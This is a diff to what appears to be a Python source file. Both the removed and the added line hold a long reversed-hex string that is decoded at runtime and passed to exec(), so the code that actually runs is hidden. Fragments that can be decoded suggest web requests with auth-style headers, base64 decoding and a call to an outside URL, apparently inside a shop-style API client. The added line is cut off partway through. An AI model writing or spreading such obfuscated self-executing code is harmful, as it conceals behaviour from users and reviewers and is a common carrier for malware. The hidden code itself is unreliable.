@@ -1 +1 @@
-_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a00202020202020202a0929746f626f54656470797273656468247e69627070202020202020202a00202020202020202a056e6f6e402e62757475627020202020202020202020202a09222d79746f626f5465647079727365646b702a327f627275422668247e6962707020202020202020202020202a09222e29747e657f62602d69616c63602f647024656c6961664228247e6962707020202020202020202020202a0a322353554343455352202d31202d52237574716473722b59746f626f54656470797273656460266960202020202020202a0929247875647e20737562782374616f6c6e2e6f637a602c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0920333d34757f656d6964702c2929746f626823707d65746e2e6f637a6d31647164602c237275646165686d33727564616568602c2c62757824737f607e2374737565717562702d3020737562702020202a09222e2e2e247375657175627029747e657f6260276e69646e65635228247e696270702020202a022d786471607b7f2d7c42555f5940514f554351424b7226602d302c6275702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a09202020202a0e6f6964716d6279666e6f636f5e656b6f647d347e656d6971607f5e656b6f6470202020202020202a0c2475676271647f547e656d6971607d35646f636f5567616b63616070202020202020202a0c2e6769637f5f647f53747d3365637f556d69647f57696370202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f647d3e656b6f647f53737563636160202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0829747e657f626f55627574716e6769637f587f547567602d302769637f58702020202a00202020202020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a00202020202020202a0d702020202a0d5d70202020202020202a00302a32287164722020202020202020202020202a0c256d616e6f5d656479602a32256d616e6f5d656479622020202020202020202020202a0c2563696270702a3225636962707f5d656479622020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2475676271647f547e656d697160702a3225646f636f5d656479622020202020202020202020202a0b7b502a32237d6564796220202020202020202a0c25637c6166402a322975726f6475716f576e6963757f53796220202020202020202a0c20302a32247e657f6d616f5c61647f647220202020202020202a0c2d70202020202020202a00302a322f6d6f62707f547e657f63637964622020202020202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c2222202a32256079747f55636e616c6162622020202020202020202020202a0c25637c6166402a322d623d6f5261627b616f5379622020202020202020202020202a0c20302a32276e696272757365627f547e657f63637964622020202020202020202020202a0c25637c6166402a322e616c607f5863647967737f5379622020202020202020202020202a0c2d5b502a32237c69616475646f5f626d6f63622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0c2222202a3227616478637163622020202020202020202020202a0c20302a3223757e6f626f51647f6571722020202020202020202020202a0c2222202a32256079747f547966656e6562622020202020202020202020202a0c20302a32287164722020202020202020202020202a0c2222202a3224696f5e6f696373796d622020202020202020202020202a0c25637c6166402a3224796d696c6f546e6560737f5379622020202020202020202020202a0c20302a32247e657f6d616f54796d696c6f546e656073722020202020202020202020202a0c2222202a3224696f50757f62776f5d623d6f5261627b61622020202020202020202020202a0c2222202a32256079747f5e6f6964716277696d622020202020202020202020202a0c25637c6166402a32297271627f607d65647f54796d696c6f546e6560737f5379622020202020202020202020202a0c20302a3225636962707f5c616e696769627f622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a3224696f5e6f6964716369647e65686475716f546564707972736e656220202020202020202a0c2222202a322275626d657e6f54756c6c61677220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c2222202a322e656b6f647220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a322e656b6f647f547e656d6971607f546564707972736e656220202020202020202a0c2222202a3224696f5e6f6964716369647e65686475716220202020202020202a0c2222202a322e656b6f647f55676164737220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c25637c6166402a322c6c656370757f586479677220202020202020202a0c2222554843455f465f5d454544454252202a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c2222202a3225646f636f556571796e657f5c616272756665627220202020202020202a0c2222202a322371696c616f547e656271607f5261627b616220202020202020202a0c2d5b502a32237275626d656d6f5261627b616220202020202020202a0c25637c6166402a32276e696471627f527567676962747f5e61636220202020202020202a0c20302a3224656e6961676f53747e696f607220202020202020202a0c2e6769637f5f647f5374702a32207d616473756d69647220202020202020202a0c2225434e414c414242202a32246f6864756d6f547e656d6971607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c2d70202020202020202a00302a3225657c6166722020202020202020202020202a0c2222202a3225607974722020202020202020202020202a0c2222202a322c6562616c622020202020202020202020202a0b702a32276e69647475637f546c6f6863756278647f5975726f6475716220202020202020202a0c2222202a32247e6962707275676e69666220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c2d5b502a32237275626d656d6220202020202020202a0c2222202a3224696f5f6d6f62707f54756c6c6167756220202020202020202a0c2222202a322e69607220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2222202a32256079747f547e656d6971607f53636220202020202020202a0c2222202a3225646f636f5975726f6475716f5465647166796473616220202020202020202a0c2222202a32247e656d6971607f5e656b6f647220202020202020202a0c2222202a322e656b6f647f547e656d6971607220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a0225676e61686368756d237569647e657f626f2e6f6964716a796c616e6f637275607f28367f29607162202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a0a392a0c2222202d30227473702a356d616e6f5d656479602020202a0c247e69602a3563696270702020202a0c227473702a3475676271647f547e656d697160702020202a0c247e69602a3e6769637f5f647f5374702020202a0c227473702a3e6f6964716d6279666e6f636f5e656b6f64702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0829747e657f626f547e656d656c64747563702665646a0a0e6275747562702020202a002020202a09222d7c62757f537962717b7e6c5a3359425150247168696c656d602b65747e657024757b69627562602b6e696c60216b65726025716471422668247e696270702020202a002020202a022d7436326f537962717b7d316471646f3f2070716e2976696c64756e6e246f6b6d22716d296b6f2f2a33707474786226602d302c62757f53796271702020202a092825646f6365646e29292825646f636e656e25646f636f537962717825646f636e656436326f556661637c62757e243635637162602d302436326f53796271702020202a002020202a09256572745d347275667e696829696363716f547e6962707e2271702020202a09256572745d34796668256b616d6e2271702020202a0925646f636f5379627178216471646f5464616e2271702020202a09202020202a0c213d327564627f6260202020202020202a0c213d356a79637f587f6260202020202020202a0c2c4f54534542525f434f525f4252554e23747e6164737e6f636e25646f6362717d3e6f6964736562727f636f527f62727560202020202020202a0c213d3e6f696372756670202020202020202a0825646f6342515e25646f636271702d302271702020202a002020202a09222d75646f636f537962717b7e6c5a316471646023594251522668247e696270702020202a0e627574756270202020202020202a09222e25646f63602359425150247567602f647024656c6961664228247e69627070202020202020202a0a35646f636f5379627170247f6e602669602020202a0924696f5e6f69647361637e616274702c237e656b6f64702c29756b6f5960716825646f636f537962717f547567602d3025646f636f53796271702020202a09222e2e2e25646f63602359425150276e6968636475664228247e696270702020202a002020202a0e627574756270202020202020202a09222e2e6f69647361637e616274702359425150256471656273602f647024656c6961664228247e69627070202020202020202a0a34696f5e6f69647361637e61627470247f6e602669602020202a002020202a09202020202a056d616e6f5d65647960202020202020202a0c256369627070202020202020202a0c25646f636f5e6f6964707f6f5567616b63616070202020202020202a0c2e6769637f5f647f537470202020202020202a0c247e656d6971607f5e656b6f6470202020202020202a0c237e656b6f6470202020202020202a0c29756b6f59607160202020202020202a08237962717f547e656d656c64747563702d3024696f5e6f69647361637e616274702020202a002020202a0d52207d616473756d6964722b516471646f53746f6864756d6f547e656d697160702d302e6769637f5f647f5374702020202a0d52247e656d6971607f5e656b6f64722b516471646f53746f6864756d6f547e656d697160702d30247e656d6971607f5e656b6f64702020202a002020202a09202020202a0c25646f636f5e6f6964707f6f5567616b6361607d3475676271647f547e656d69716070202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f647d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202a0c237e656b6f647d337e656b6f6470202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0823746f6864756d6f547e656d6971607f547567602d30216471646f53746f6864756d6f547e656d697160702020202a002020202a09222e2e2e237c696164756460246f6864756d60247e656d69716070276e6968636475664228247e696270702020202a0a392222202d30227473702a356d616e6f5d656479602c247e69602a3563696270702c227473702a3e6f6964716d6279666e6f636f5e656b6f64702c227473702a35646f636f5e6f6964707f6f5567616b636160702c24736964602a337e656b6f64702c227473702a39756b6f59607168247e656d6971607f537962717f577f6863702665646a0a0d5225646f636f5271722b5d5221647164622b537562702e6275747562702020202a002020202a056e6f6e402e627574756270202020202020202a09222d7375627b702a327f627275422668247e69627070202020202020202a09222e25646f636023594251502863647566602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d31202d52237574716473722b537562702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a002020202a0d702020202a0222202a322375747164737220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c24696f5e6f69647361637e616274702a3224696f5e6f69647361637e6162747220202020202020202a0b702d3024616f6c697160702020202a022c69616475646d276e69646e65607f28367f2960716f23747e656d69716072202d3028647160702020202a0a392a027473702a34696f5e6f69647361637e616274702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0825646f636f537962717f547567602665646a002020202a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a04696f5e6f69647361637e616274702e627574756270202020202020202a00202020202020202a0d5225646f636f5e6f69647361637e616274722b5d5221647164622b59746f626f546564707972736564602d3024696f5e6f69647361637e61627470202020202020202a00202020202020202a056e6f6e402e62757475627020202020202020202020202a09222d79746f626f5465647079727365646b702a327f627275422668247e6962707020202020202020202020202a09222e247e656d656c64747563702564716964796e69602f647024656c6961664228247e6962707020202020202020202020202a0a322353554343455352202d31202d52237574716473722b59746f626f54656470797273656460266960202020202020202a0929247875647e20737562782374616f6c6e2e6f637a602c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0920333d34757f656d6964702c2929746f626823707d65746e2e6f637a6d31647164602c237275646165686d33727564616568602c2c62757824737f607e2374737565717562702d3020737562702020202a09222e2e2e2473756571756270247e656d656c6474756370276e69646e65635228247e696270702020202a022d786471607b7f2d7c42555f5940514f554351424b7226602d302c6275702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a0920202020202020202a0223594251522020202020202020202020202a0c247e656d6971607f5e656b6f647020202020202020202020202a0c2475676271647f547e656d6971607020202020202020202020202a0c2e6769637f5f647f53747020202020202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f647020202020202020202020202a0c29756b6f5960716020202020202020202020202a08247e656d6971607f55627574716e6769637f587f547567602d302769637f58702020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a002020202a0d702020202a092928256d69647e256d696478247e69602a32207d616473756d69647220202020202020202a0c222359425152202a32246f6864756d6f547e656d6971607220202020202020202a0c247e656d6971607f5e656b6f64702a322e656b6f647f5e6f696471636966696275667220202020202020202a0c2d5d70202020202020202a00302a32287164722020202020202020202020202a0c256d616e6f5d656479602a32256d616e6f5d656479622020202020202020202020202a0c2563696270702a3225636962707f5d656479622020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2475676271647f547e656d697160702a3225646f636f5d656479622020202020202020202020202a0b7b502a32237d6564796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c247e696f547e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c2d70202020202020202a00302a322f6d6f62707f547e657f63637964622020202020202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c20302a32276e696272757365627f547e657f63637964622020202020202020202020202a0c25637c6166402a322e616c607f5863647967737f5379622020202020202020202020202a0c2d5b502a32237c69616475646f5f626d6f63622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0c2222202a3227616478637163622020202020202020202020202a0c20302a3223757e6f626f51647f6571722020202020202020202020202a0c2222202a32256079747f547966656e6562622020202020202020202020202a0c20302a32287164722020202020202020202020202a0c25637c6166402a3224796d696c6f546e6560737f5379622020202020202020202020202a0c20302a32247e657f6d616f54796d696c6f546e656073722020202020202020202020202a0c2222202a32256079747f5e6f6964716277696d622020202020202020202020202a0c25637c6166402a32297271627f607d65647f54796d696c6f546e6560737f5379622020202020202020202020202a0c2563696270702a3225636962707f5c616e696769627f622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2d70202020202020202a0d7020202020202020202020202a00302a3225657c6166722020202020202020202020202a0c2222202a3225607974722020202020202020202020202a0c2222202a322c6562616c622020202020202020202020202a0b702a32276e69647475637f546c6f6863756278647f5975726f647571622020202020202020202020202a0c2222202a3225646f636f5975726f6475716f546564716679647361622020202020202020202020202a0c25637c6166402a322975726f6475716f576e6963757f5379622020202020202020202020202a0b702a322975726f6475716220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c222547414b4341405f59555242202a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0c25637c6166402a32276e696471627f527567676962747f5e61636220202020202020202a0c2d70202020202020202a0d5b502a32237275626d656d622020202020202020202020202a0c2222202a322371696c616f547e656271607f5261627b61622020202020202020202020202a0c2d5b502a32237275626d656d6f5261627b61622020202020202020202020202a0b702a322261627b616220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a02237962717f247e656d69716079647c657d6d247e656d656c647475637f28367f2960716f23747e656d69716072202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a002020202a056e6f6e402e62757475627020202020202020202020202a09222e2563696270702c616e696769627f60276e696375702c2475707e696025647962777275667f6024696c61667e694228247e6962707020202020202020202020202a0a327f62727545657c61665024707563687560202020202020202a092274737f547e657f6d6168247e69602d30247e696f547e657f6d616020202020202020202020202a0a39727470202020202020202a0a3222202d31202274737f547e657f6d61602669602020202a002020202a0563696270702d30247e696f547e657f6d61602020202a0922202a347e657f6d6160247c65716665646025637570262025627f6e6769602f64702275647e65602373756270702c25647962777275667f602f64702465656e60257f697026696025657c6166702275647e654e6c5e2d75636962707b70237960247e657f6d61602c61647f645226682475707e69602d302274737f547e657f6d61602020202a00202a392a0c2222202d30227473702a356d616e6f5d656479602020202a0c247e69602a3563696270702020202a0c227473702a3475676271647f547e656d697160702020202a0c247e69602a3e6769637f5f647f5374702020202a0c227473702a347e656d6971607f5e656b6f64702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a08237962717f547e656d656c64747563702665646a0a0d5221647164622b5375627f547e656d697160702e6275747562702020202a002020202a002020202a002020202a056e6f6e402e627574756270202020202020202a09222d7375627f547e656d6971607b702a327f627275422668247e69627070202020202020202a09222e23746f6864756d60247e656d697160702863647566602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d31202d52237574716473722b5375627f547e656d697160702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f547e656d697160702c286471607f547e656d697160702c29756b6f59607168247375657175627f5960716f546e6563702d302375627f547e656d697160702020202a002020202a0d702020202a0e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25637c6166402a322c616272756665627f53796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c2475676271647f547e656d697160702a322475676271647f547e656d6971607220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c22254351484342555052202a32256079747f547e656d6971607220202020202020202a0b702d3024616f6c6971607f547e656d697160702020202a022e6f6964707f6d23746f6864756d6d247e656d6971607f28367f2960716f23747e656d69716072202d30286471607f547e656d697160702020202a0a392a0c227473702a3475676271647f547e656d697160702020202a0c227473702a3e6f6964716d6279666e6f636f5e656b6f64702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0823746f6864756d6f547e656d6971607f547567602665646a0a092221455228267e656475676e237f602d3021455a092220564f58514228267e656475676e237f602d3020564f58514a092224494f5543494655444f58514228267e656475676e237f602d3024494f5543494655444f58514a09222c42555f5940514f554351424228267e656475676e237f602d302c42555f5940514f554351424a0a09747e657f626f55627574716e6769637f587f547567602c247e656d6971607f55627574716e6769637f587f547567602c207d616473756d69647f556b696c6f5166716a602c21647164687f5e67696374707972736e65602c21647164687f54707972736564602c246c6569666f546564707972736e656f546c696572602c29554b4f5940514024727f607d696024707972736e656e247e65696c636e207071602d6f62766a0a2024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a03747375657175627024727f607d696a056d69647024727f607d696a0a05646f6362717024727f607d696a0436356371626024727f607d696a046965757024727f607d696a0e6f637a6024727f607d696a01647c6564656d6964702c256e6f6a756d6964702c256d6964756471646024727f607d6960256d696475647164602d6f62766" ));
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a00202020202020202a0929746f626f54656470797273656468247e69627070202020202020202a00202020202020202a056e6f6e402e62757475627020202020202020202020202a09222d79746f626f5465647079727365646b702a327f627275422668247e6962707020202020202020202020202a09222e29747e657f62602d69616c63602f647024656c6961664228247e6962707020202020202020202020202a0a322353554343455352202d31202d52237574716473722b59746f626f54656470797273656460266960202020202020202a09286471607d38647160702c2928647160702c247875647e20737562782374616f6c6e25636e6164737e69427563616274502c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0929746f62602c23727564616568602c2864716078247e656d656c647475637f54737f60702d3020737562702020202a09222e2e2e247375657175627029747e657f6260276e69646e65635228247e696270702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a09202020202a0e6f6964716d6279666e6f636f5e656b6f647d347e656d6971607f5e656b6f6470202020202020202a0c2475676271647f547e656d6971607d35646f636f5567616b63616070202020202020202a0c2e6769637f5f647f53747d3365637f556d69647f57696370202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f647d3e656b6f647f53737563636160202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0829747e657f626f55627574716e6769637f587f547567602d302769637f58702020202a00202020202020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a00202020202020202a0d702020202a0d5d70202020202020202a00302a32287164722020202020202020202020202a0c256d616e6f5d656479602a32256d616e6f5d656479622020202020202020202020202a0c2563696270702a3225636962707f5d656479622020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2475676271647f547e656d697160702a3225646f636f5d656479622020202020202020202020202a0b7b502a32237d6564796220202020202020202a0c25637c6166402a322975726f6475716f576e6963757f53796220202020202020202a0c20302a32247e657f6d616f5c61647f647220202020202020202a0c2d70202020202020202a00302a322f6d6f62707f547e657f63637964622020202020202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c2222202a32256079747f55636e616c6162622020202020202020202020202a0c25637c6166402a322d623d6f5261627b616f5379622020202020202020202020202a0c20302a32276e696272757365627f547e657f63637964622020202020202020202020202a0c25637c6166402a322e616c607f5863647967737f5379622020202020202020202020202a0c2d5b502a32237c69616475646f5f626d6f63622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0c2222202a3227616478637163622020202020202020202020202a0c20302a3223757e6f626f51647f6571722020202020202020202020202a0c2222202a32256079747f547966656e6562622020202020202020202020202a0c20302a32287164722020202020202020202020202a0c2222202a3224696f5e6f696373796d622020202020202020202020202a0c25637c6166402a3224796d696c6f546e6560737f5379622020202020202020202020202a0c20302a32247e657f6d616f54796d696c6f546e656073722020202020202020202020202a0c2222202a3224696f50757f62776f5d623d6f5261627b61622020202020202020202020202a0c2222202a32256079747f5e6f6964716277696d622020202020202020202020202a0c25637c6166402a32297271627f607d65647f54796d696c6f546e6560737f5379622020202020202020202020202a0c20302a3225636962707f5c616e696769627f622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a3224696f5e6f6964716369647e65686475716f546564707972736e656220202020202020202a0c2222202a322275626d657e6f54756c6c61677220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c2222202a322e656b6f647220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a322e656b6f647f547e656d6971607f546564707972736e656220202020202020202a0c2222202a3224696f5e6f6964716369647e65686475716220202020202020202a0c2222202a322e656b6f647f55676164737220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c25637c6166402a322c6c656370757f586479677220202020202020202a0c2222554843455f465f5d454544454252202a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c2222202a3225646f636f556571796e657f5c616272756665627220202020202020202a0c2222202a322371696c616f547e656271607f5261627b616220202020202020202a0c2d5b502a32237275626d656d6f5261627b616220202020202020202a0c25637c6166402a32276e696471627f527567676962747f5e61636220202020202020202a0c20302a3224656e6961676f53747e696f607220202020202020202a0c2e6769637f5f647f5374702a32207d616473756d69647220202020202020202a0c2225434e414c414242202a32246f6864756d6f547e656d6971607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c2d70202020202020202a00302a3225657c6166722020202020202020202020202a0c2222202a3225607974722020202020202020202020202a0c2222202a322c6562616c622020202020202020202020202a0b702a32276e69647475637f546c6f6863756278647f5975726f6475716220202020202020202a0c2222202a32247e6962707275676e69666220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c2d5b502a32237275626d656d6220202020202020202a0c2222202a3224696f5f6d6f62707f54756c6c6167756220202020202020202a0c2222202a322e69607220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2222202a32256079747f547e656d6971607f53636220202020202020202a0c2222202a3225646f636f5975726f6475716f5465647166796473616220202020202020202a0c2222202a32247e656d6971607f5e656b6f647220202020202020202a0c2222202a322e656b6f647f547e656d6971607220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a0225676e61686368756d237569647e657f626f2e6f6964716a796c616e6f637275607f28367f29607162202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a0a392a0c2222202d30227473702a356d616e6f5d656479602020202a0c247e69602a3563696270702020202a0c227473702a3475676271647f547e656d697160702020202a0c247e69602a3e6769637f5f647f5374702020202a0c227473702a3e6f6964716d6279666e6f636f5e656b6f64702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0829747e657f626f547e656d656c64747563702665646a0a0e6275747562702020202a002020202a09222d7c62757f537962717b7e6c5a3359425150247168696c656d602b65747e657024757b69627562602b6e696c60216b65726025716471422668247e696270702020202a002020202a022d7436326f537962717b7d316471646f3f2070716e2976696c64756e6e246f6b6d22716d296b6f2f2a33707474786226602d302c62757f53796271702020202a092825646f6365646e29292825646f636e656e25646f636f537962717825646f636e656436326f556661637c62757e243635637162602d302436326f53796271702020202a002020202a09256572745d347275667e696829696363716f547e6962707e2271702020202a09256572745d34796668256b616d6e2271702020202a0925646f636f5379627178216471646f5464616e2271702020202a09202020202a0c213d327564627f6260202020202020202a0c213d356a79637f587f6260202020202020202a0c2c4f54534542525f434f525f4252554e23747e6164737e6f636e25646f6362717d3e6f6964736562727f636f527f62727560202020202020202a0c213d3e6f696372756670202020202020202a0825646f6342515e25646f636271702d302271702020202a05646f6362717024727f607d69602020202a002020202a09222d75646f636f53